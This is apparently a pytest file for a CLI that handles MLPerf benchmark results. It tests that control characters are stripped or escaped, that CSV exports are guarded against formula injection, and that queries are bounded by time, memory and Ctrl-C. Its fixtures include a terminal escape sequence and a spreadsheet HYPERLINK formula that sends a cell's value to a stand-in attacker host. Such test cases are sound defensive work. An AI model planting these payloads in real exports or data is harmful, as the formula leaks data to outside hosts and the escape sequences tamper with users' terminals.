"""Upstream text is text (control characters gone at ingestion, escaped in table output, no spreadsheet
formulas in CSV), and `query` is bounded in time and memory and stops at Ctrl-C."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import time

import duckdb
import pytest

from pipelines import cli
from pipelines.commands.query import render_table
from pipelines.lib.mlperf.rules import ref_for_round
from pipelines.runner.jobs import refresh
from support.cli import CLI
from support.http_server import LoopbackServer
from support.logs import make_archive, open_ssd_run, serve_package_rules, system_json
from support.refresh import refresh_settings

pytestmark = [pytest.mark.slow, pytest.mark.subprocess]

HOSTILE = "Evil\x1b]0;owned\x07 Box\x9d\x00"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    """A refresh of a round whose systems file names its system with control characters and a formula."""
    tmp = tmp_path_factory.mktemp("text")
    base = tmp / "warehouse"
    site = tmp / "site"
    site.mkdir()
    members = {"Acme/systems/box.json": system_json(system_name=HOSTILE, framework=FORMULA)}
    for i, minutes in enumerate((10, 20, 30, 40, 50)):
        members[f"Acme/results/box/ssd/result_{i}.txt"] = "\n".join(open_ssd_run(10**6 * (i + 1), minutes)).encode()
    (site / "training_results_v4.1-main.tar.gz").write_bytes(make_archive(members))
    serve_package_rules(site, "v4.1")
    with pytest.MonkeyPatch.context() as env, LoopbackServer(site) as server:
        env.setenv("MLPERF_WAREHOUSE_DIR", str(base))
        summary = refresh(refresh_settings(rounds=["v4.1"],
                                           results_url_template=f"{server.url}/training_results_{{version}}-main.tar.gz",
                                           rules_url_template=f"{server.url}/logging-{{ref}}.tar.gz",
                                           trust_rules_refs=[ref_for_round("v4.1").ref]),
                          prices=False, backoff_seconds=0.01)
    assert summary.ok and summary.published, summary.render()  # the report and export of the outputs step too
    return base


def test_control_characters_are_gone_at_ingestion(base):
    con = duckdb.connect(str(base / "mlperf.duckdb"), read_only=True)
    name = con.execute("select system_name from dim_system").fetchone()[0]
    assert name == "Evil]0;owned Box"
    texts = con.execute("select count(*) from dim_system where regexp_matches(system_name || framework, "
                        "'[\\x00-\\x1f\\x7f-\\x9f]')").fetchone()[0]
    assert texts == 0


def test_the_site_and_report_render_such_names(base, tmp_path):
    assert cli.main(["site", "--out", str(tmp_path / "site"), "--warehouse-dir", str(base)]) == 0
    pages = "".join(p.read_text() for p in (tmp_path / "site").rglob("*.html"))
    assert "Evil]0;owned Box" in pages and "\x1b" not in pages and "\x07" not in pages
    assert cli.main(["report", "--round", "v4.1", "--benchmark", "ssd", "--out", str(tmp_path / "report"),
                     "--warehouse-dir", str(base)]) == 0


def test_table_output_escapes_what_a_query_builds(base):
    out = subprocess.run(CLI + ["query", "select chr(27) || ']0;x' || chr(7) as c, 'a' || chr(155) as d",
                                "--warehouse-dir", str(base)], capture_output=True, text=True)
    assert out.returncode == 0
    assert "\x1b" not in out.stdout and "\x07" not in out.stdout and "\x9b" not in out.stdout
    assert "\\x1b]0;x\\x07" in out.stdout and "a\\x9b" in out.stdout
    assert render_table(["a\x1bb"], [("x\ny",)]).splitlines()[0] == "a\\x1bb"


def test_csv_cells_never_start_a_formula(base, tmp_path):
    assert cli.main(["export", "--format", "csv", "--out", str(tmp_path / "csv"), "--tables", "dim_system",
                     "--warehouse-dir", str(base)]) == 0
    rows = list(csv.DictReader(open(tmp_path / "csv" / "dim_system.csv", newline="")))
    assert rows[0]["framework"] == "'" + FORMULA
    assert all(not str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    # numbers stay numbers; Parquet keeps the value as it is
    assert cli.main(["export", "--format", "parquet", "--out", str(tmp_path / "pq"), "--tables", "dim_system",
                     "--warehouse-dir", str(base)]) == 0
    parquet = next((tmp_path / "pq").rglob("*.parquet"))
    assert duckdb.connect().execute(f"select framework from '{parquet}'").fetchone()[0] == FORMULA
    out = subprocess.run(CLI + ["query", "select framework, -1 as n, '@x' as at from dim_system", "--format", "csv",
                                "--warehouse-dir", str(base)], capture_output=True, text=True)
    assert list(csv.reader(io.StringIO(out.stdout)))[1] == ["'" + FORMULA, "-1", "'@x"]


def test_a_query_stops_at_its_timeout(base):
    started = time.perf_counter()
    out = subprocess.run(CLI + ["query", "select count(*) from range(100000000) a, range(100000000) b",
                                "--timeout", "2", "--warehouse-dir", str(base)], capture_output=True, text=True)
    assert time.perf_counter() - started < 30
    assert out.returncode == 1 and out.stderr.strip() == (
        "error: the query was stopped after 2 s (--timeout SECONDS or MLPERF_QUERY_TIMEOUT_SECONDS allow more)")


def test_a_query_stops_at_ctrl_c(base):
    process = subprocess.Popen(CLI + ["query", "select count(*) from range(100000000) a, range(100000000) b",
                                      "--warehouse-dir", str(base)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True)
    time.sleep(3)
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=30)
    assert process.returncode == 130 and err.strip() == "query interrupted (Ctrl-C)"


def test_a_query_is_held_to_its_memory_limit(base):
    env = os.environ | {"MLPERF_QUERY_MEMORY_BYTES": str(64 << 20)}
    out = subprocess.run(CLI + ["query", "select list(x) from range(50000000) t(x)", "--warehouse-dir", str(base)],
                         capture_output=True, text=True, env=env)
    assert out.returncode == 1 and "needs more than 0.0625 GiB of memory" in out.stderr
    help_text = subprocess.run(CLI + ["query", "--help"], capture_output=True, text=True).stdout
    assert "--timeout SECONDS" in help_text and "--memory-limit BYTES" in help_text
